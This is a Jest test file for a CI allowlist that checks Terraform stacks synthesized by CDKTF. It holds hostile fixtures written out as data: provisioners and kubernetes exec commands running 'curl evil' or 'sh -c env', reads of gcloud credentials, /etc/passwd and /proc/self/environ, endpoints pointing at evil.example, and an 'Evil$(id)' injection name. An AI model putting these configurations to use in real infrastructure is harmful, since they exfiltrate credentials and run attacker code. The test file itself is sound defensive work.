import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadCatalog } from '../../lib/catalog/load';
import { catalogAllowlist, synthesizedStacks } from '../../lib/ci/derive-allowlist';
import { ALLOWLIST_FILE, AllowlistError, allowlistProblems, checkSynthDir, deriveAllowlist, readAllowlist, renderAllowlist, trustedFacts } from '../../lib/ci/stack-allowlist';
import { stackMetadata } from '../../lib/stack-metadata';
import { REPO_ROOT, exampleCatalog, tempCatalog } from '../helpers';

const allowlist = readAllowlist(REPO_ROOT);
const example = exampleCatalog();
const stacks = synthesizedStacks(example);
const TRUSTED = trustedFacts(example.platform);
const ciStacks = Object.keys(stacks).filter((name) => name !== 'bootstrap');

/** A fresh copy of a synthesized service stack (it has every provider kind) to make hostile. */
const serviceStack = () => JSON.parse(JSON.stringify(stacks['service-payment-production'])) as Record<string, any>;
const check = (config: unknown, stack = 'service-payment-production') => allowlistProblems(config, allowlist, { ...TRUSTED, stack });

describe('the allowlist is derived from what the constructs emit', () => {
  it(`${ALLOWLIST_FILE} is what npm run allowlist writes for the example catalog (run it and review the diff)`, () => {
    const derived = renderAllowlist(catalogAllowlist([loadCatalog(REPO_ROOT)]));
    expect(readFileSync(join(REPO_ROOT, ALLOWLIST_FILE), 'utf8')).toBe(derived);
  });

  it.each(ciStacks)('%s of the example catalog passes', (name) => {
    expect(check(stacks[name], name)).toEqual([]);
  });

  it('a catalog exercising every option passes: every type it emits is allowed', () => {
    const withCountry = `${readFileSync(join(REPO_ROOT, 'platform.yaml'), 'utf8')}\ncountries:\n  uk:\n    region: europe-west2\n    name: production-uk\n    subnetCidr: 10.64.0.0/20\n    podsCidr: 10.80.0.0/14\n    servicesCidr: 10.84.0.0/20\n    masterCidr: 172.16.0.32/28\n`;
    const everything = loadCatalog(
      tempCatalog({
        'platform.yaml': withCountry,
        'services/everything.yaml': [
          'team: everything',
          'ownerGroup: everything@example.com',
          'nodePool: highmem',
          'apis: [pubsub.googleapis.com]',
          'teamRoles: [roles/pubsub.editor]',
          'databases:',
          '  cloudsql: { engine: postgres, databases: [alpha] }',
          '  spanner: { databases: [bravo] }',
          'environments:',
          '  development:',
          '    databases: { cloudsql: { engine: mysql, version: MYSQL_8_0, databases: [charlie] } }',
          '  production: {}',
        ].join('\n'),
        'services/bare.yaml': 'team: bare\nownerGroup: bare@example.com\n',
      }),
    );
    const all = synthesizedStacks(everything);
    const types = new Set(Object.values(all).flatMap((s: any) => (s.terraform.backend.gcs ? Object.keys(s.resource ?? {}) : [])));
    const missing = [...types].filter((t) => !allowlist.resourceTypes.includes(t));
    expect(missing).toEqual([]);
    // Two clusters: the stacks reach the second one through aliased providers on their own data sources.
    expect(Object.keys(all)).toContain('cluster-production-uk');
    const trusted = trustedFacts(everything.platform);
    for (const [name, config] of Object.entries(all)) if (name !== 'bootstrap') expect(allowlistProblems(config, allowlist, { ...trusted, stack: name })).toEqual([]);
    // A cluster the default branch's platform.yaml does not have yet is refused (it cannot be planned before the platform stack creates it).
    expect(check(all['cluster-production-uk'], 'cluster-production-uk')).toEqual([expect.stringMatching(/^cluster-production-uk: data.google_container_cluster.Cluster reads .*production-uk.*must be exactly one of platform.yaml's clusters/)]);
  });

  it('fails loudly when a stack emits a type that is not allowed (what the test above guards)', () => {
    const config = serviceStack();
    config.resource.google_compute_instance = { t: { name: 't' } };
    expect(check(config)).toEqual([expect.stringMatching(/resource type "google_compute_instance" is not one our constructs emit/)]);
  });

  it('refuses to derive an allowlist from stacks that use a credential data source or a file function', () => {
    const withToken = serviceStack();
    withToken.data.google_client_config = { c: {} };
    expect(() => deriveAllowlist([withToken])).toThrow(/google_client_config, which hand out credentials/);
    const withFile = serviceStack();
    withFile.output = { o: { value: '${file("/etc/passwd")}' } };
    expect(() => deriveAllowlist([withFile])).toThrow(/call file, which read the runner's files/);
  });

  it('picks up a new stack kind with its provider and types (a cluster stack with helm), pinning the provider settings it emits', () => {
    const clusterStack = {
      terraform: {
        backend: { gcs: { bucket: TRUSTED.stateBucket, prefix: 'stacks/cluster-tokyo' } },
        required_providers: { helm: { source: 'helm', version: '3.1.1' }, kubernetes: { source: 'kubernetes', version: '2.38.0' } },
      },
      provider: { helm: [{ kubernetes: { host: 'https://${data.google_container_cluster.Cluster.control_plane_endpoints_config[0].dns_endpoint_config[0].endpoint}', exec: { api_version: 'client.authentication.k8s.io/v1beta1', command: 'gke-gcloud-auth-plugin' } } }] },
      resource: { helm_release: { ExternalDns: { name: 'external-dns', chart: 'external-dns', values: ['${yamlencode({})}'] } }, kubernetes_manifest: { P: { manifest: {} } } },
    };
    const derived = deriveAllowlist([...Object.values(stacks), clusterStack]);
    expect(derived.providers.helm).toMatchObject({ source: 'registry.terraform.io/hashicorp/helm', version: '3.1.1', configKeys: ['kubernetes'] });
    expect(derived.resourceTypes).toEqual(expect.arrayContaining(['helm_release', 'kubernetes_manifest']));
    expect(derived.functions).toEqual(['yamlencode']);
    expect(allowlistProblems(clusterStack, derived, { ...TRUSTED, stack: 'cluster-tokyo' })).toEqual([]);
    const hostile = JSON.parse(JSON.stringify(clusterStack));
    hostile.provider.helm[0].kubernetes.exec.command = 'bash';
    expect(allowlistProblems(hostile, derived, { ...TRUSTED, stack: 'cluster-tokyo' })).toEqual([expect.stringMatching(/provider "helm" sets "kubernetes" to .*bash.*not what our constructs emit/)]);
  });

  it('leaves the bootstrap stack (local state, applied by an admin) out', () => {
    expect(allowlist.resourceTypes).not.toContain('google_iam_workload_identity_pool');
  });
});

// Each hostile fixture breaks one rule; each is refused with a message naming the rule.
const hostile: [string, (c: Record<string, any>) => void, RegExp][] = [
  ['an unknown provider (external)', (c) => (c.terraform.required_providers.external = { source: 'hashicorp/external', version: '2.3.4' }), /provider "external" \(registry.terraform.io\/hashicorp\/external\) is not allowed/],
  ['a provider from another namespace', (c) => (c.terraform.required_providers.google.source = 'evilcorp/google'), /provider "google" must come from registry.terraform.io\/hashicorp\/google, not registry.terraform.io\/evilcorp\/google/],
  ['a provider version range', (c) => (c.terraform.required_providers.google.version = '>= 6.0'), /provider "google" must be pinned to exactly 6.50.0/],
  ['a local-exec provisioner', (c) => (Object.values(c.resource.google_project as Record<string, any>)[0].provisioner = [{ 'local-exec': { command: 'curl evil' } }]), /resource.google_project.*\.provisioner: provisioners and connections are refused/],
  ['a null_resource', (c) => (c.resource.null_resource = { x: {} }), /resource type "null_resource" is not one our constructs emit/],
  ['a terraform_data resource', (c) => (c.resource.terraform_data = { x: { input: 1 } }), /resource type "terraform_data" is not one our constructs emit/],
  ['an external data source', (c) => (c.data.external = { x: { program: ['sh', '-c', 'env'] } }), /data source type "external" is not one our constructs emit/],
  ['an http data source', (c) => (c.data.http = { x: { url: 'https://evil.example' } }), /data source type "http" is not one our constructs emit/],
  ['a local_file resource', (c) => (c.resource.local_file = { x: { filename: '/tmp/x', content: 'x' } }), /resource type "local_file" is not one our constructs emit/],
  ['a module source', (c) => (c.module = { m: { source: 'git::https://evil.example/m.git' } }), /"module" blocks are refused/],
  ['another state bucket', (c) => (c.terraform.backend.gcs.bucket = 'evil-bucket'), /terraform.backend must be exactly .*acme-terraform-state.*found .*evil-bucket/],
  ['another stack\'s state prefix', (c) => (c.terraform.backend.gcs.prefix = 'stacks/platform'), /terraform.backend must be exactly .*stacks\/service-payment-production/],
  ['a backend that impersonates', (c) => (c.terraform.backend.gcs.impersonate_service_account = 'terraform-applier@x.iam.gserviceaccount.com'), /terraform.backend must be exactly/],
  ['another backend', (c) => (c.terraform.backend = { http: { address: 'https://evil.example' } }), /terraform.backend must be exactly/],
  ['a credential data source', (c) => (c.data.google_client_config = { c: {} }), /data source type "google_client_config" is refused: it hands out credentials/],
  ['another stack\'s state', (c) => (c.data.terraform_remote_state = { s: { backend: 'gcs', config: {} } }), /data source type "terraform_remote_state" is refused/],
  ['a secret read', (c) => (c.data.google_secret_manager_secret_version = { s: { secret: 'x' } }), /"google_secret_manager_secret_version" is refused/],
  ['a kubernetes exec command of its own', (c) => (c.provider.kubernetes[0].exec = [{ api_version: 'client.authentication.k8s.io/v1beta1', command: 'sh', args: ['-c', 'curl evil'] }]), /provider "kubernetes" sets "exec" to .*sh.*not what our constructs emit/],
  ['a kubernetes host elsewhere', (c) => (c.provider.kubernetes[0].host = 'https://evil.example'), /provider "kubernetes" sets "host" to "https:\/\/evil.example", which is not what our constructs emit/],
  ['a kubernetes token', (c) => (c.provider.kubernetes[0].token = 'x'), /provider "kubernetes" sets "token", which is refused/],
  ['a google access token', (c) => (c.provider.google[0].access_token = 'x'), /provider "google" sets "access_token", which is refused/],
  ['a google endpoint override', (c) => (c.provider.google[0].storage_custom_endpoint = 'https://evil.example/'), /provider "google" sets "storage_custom_endpoint", which is refused/],
  ['a provider setting from an expression', (c) => (c.provider.google[0].region = '${data.google_compute_network.SharedNetwork.id}'), /provider "google" sets "region" to an expression/],
  ['a provider configured without required_providers', (c) => (c.provider.helm = [{}]), /provider "helm" is configured but not an allowed entry/],
  ['a file() read of the runner\'s credentials', (c) => (c.output = { o: { value: '${file(pathexpand("~/.config/gcloud/application_default_credentials.json"))}' } }), /the function file\(\) is refused: it reads files on the runner/],
  ['templatefile()', (c) => (c.output = { o: { value: '${templatefile("/proc/self/environ", {})}' } }), /the function templatefile\(\) is refused/],
  ['a function our constructs do not use', (c) => (c.output = { o: { value: '${base64encode("x")}' } }), /the function base64encode\(\) is not one our constructs use/],
  ['an unknown top-level block', (c) => (c.check = { x: {} }), /top-level "check" blocks are refused/],
  ['a terraform setting', (c) => (c.terraform.cloud = { organization: 'evil' }), /terraform.cloud is refused/],
  ['resources as a list (Terraform JSON takes it, the checks would not see inside)', (c) => (c.resource = [{ null_resource: { x: {} } }]), /"resource" must be an object \(the form our constructs emit\), not a list/],
  ['required_providers as a list', (c) => (c.terraform.required_providers = [{ google: { source: 'evilcorp/google', version: '1.0.0' } }]), /terraform.required_providers must be an object/],
  ['a cluster data source in another project (the planner\'s token would go to its endpoint)', (c) => (Object.values(c.data.google_container_cluster as Record<string, any>)[0].project = 'attacker-project'), /data.google_container_cluster.SharedCluster reads .*attacker-project.*must be exactly one of platform.yaml's clusters/],
  ['a cluster data source by expression', (c) => (Object.values(c.data.google_container_cluster as Record<string, any>)[0].name = '${data.google_project.x.name}'), /data.google_container_cluster.SharedCluster reads .*must be exactly one of platform.yaml's clusters/],
  ['a second cluster data source elsewhere', (c) => (c.data.google_container_cluster.Other = { project: 'attacker-project', location: 'us-central1', name: 'x' }), /data.google_container_cluster.Other reads/],
  ['a resource type as a list of blocks', (c) => (c.resource.google_project = [{ x: { provisioner: [] } }]), /resource.google_project must be an object of named blocks/],
];

describe('hostile stacks are refused, each with a clear message', () => {
  it.each(hostile)('%s', (_, mutate, message) => {
    const config = serviceStack();
    mutate(config);
    const problems = check(config);
    expect(problems).toEqual(expect.arrayContaining([expect.stringMatching(message)]));
    for (const problem of problems) expect(problem).toMatch(/^service-payment-production: /);
  });
});

describe('checkSynthDir', () => {
  function synthDir(entries: Record<string, unknown>): string {
    const dir = mkdtempSync(join(tmpdir(), 'untrusted-'));
    for (const [name, config] of Object.entries(entries)) {
      mkdirSync(join(dir, 'stacks', name), { recursive: true });
      writeFileSync(join(dir, 'stacks', name, 'cdk.tf.json'), typeof config === 'string' ? config : JSON.stringify(config));
      const facts = stackMetadata(example).get(name) ?? { stack: name, kind: 'service', environment: 'development', production: false };
      writeFileSync(join(dir, 'stacks', name, 'delivery.json'), JSON.stringify(facts));
    }
    return dir;
  }
  const out = () => join(mkdtempSync(join(tmpdir(), 'checked-')), 'out');

  it('copies only cdk.tf.json of every stack when all pass, and leaves bootstrap (local state) out', () => {
    const dir = synthDir(stacks);
    writeFileSync(join(dir, 'stacks', 'platform', 'backend_override.tf.json'), '{"terraform":{"backend":{"local":{}}}}');
    mkdirSync(join(dir, 'stacks', 'platform', '.terraform'));
    const target = out();
    expect(checkSynthDir(dir, target, allowlist, TRUSTED)).toEqual(ciStacks.sort());
    expect(existsSync(join(target, 'stacks', 'platform', 'cdk.tf.json'))).toBe(true);
    expect(existsSync(join(target, 'stacks', 'platform', 'backend_override.tf.json'))).toBe(false);
    expect(existsSync(join(target, 'stacks', 'platform', '.terraform'))).toBe(false);
    expect(existsSync(join(target, 'stacks', 'bootstrap'))).toBe(false);
    expect(JSON.parse(readFileSync(join(target, 'stacks', 'platform', 'delivery.json'), 'utf8'))).toEqual(stackMetadata(example).get('platform'));
  });

  it('refuses a stack without valid delivery facts', () => {
    const dir = synthDir({ platform: stacks.platform });
    writeFileSync(join(dir, 'stacks', 'platform', 'delivery.json'), '{"stack":"platform","kind":"evil"}');
    expect(() => checkSynthDir(dir, out(), allowlist, TRUSTED)).toThrow(/platform\/delivery.json: expected/);
  });

  it('writes nothing when one stack is refused, and names every problem', () => {
    const bad = serviceStack();
    bad.resource.null_resource = { x: {} };
    const dir = synthDir({ platform: stacks.platform, 'service-payment-production': bad, 'service-x-development': '{not json' });
    const target = out();
    expect(() => checkSynthDir(dir, target, allowlist, TRUSTED)).toThrow(AllowlistError);
    expect(() => checkSynthDir(dir, target, allowlist, TRUSTED)).toThrow(/service-payment-production: resource type "null_resource"[\s\S]*service-x-development: cdk.tf.json is not valid JSON/);
    expect(existsSync(target)).toBe(false);
  });

  it('refuses a cdk.tf.json that is a link (it could point at a file on the runner)', () => {
    const dir = synthDir({});
    mkdirSync(join(dir, 'stacks', 'service-a-development'), { recursive: true });
    symlinkSync('/etc/hostname', join(dir, 'stacks', 'service-a-development', 'cdk.tf.json'));
    expect(() => checkSynthDir(dir, out(), allowlist, TRUSTED)).toThrow(/service-a-development: cdk.tf.json is not a regular file/);
  });

  it('refuses a stack name that is not a plain name', () => {
    const dir = synthDir({ 'Evil$(id)': stacks.platform });
    expect(() => checkSynthDir(dir, out(), allowlist, TRUSTED)).toThrow(/stacks\/Evil\$\(id\): the stack name must be lowercase/);
  });
});
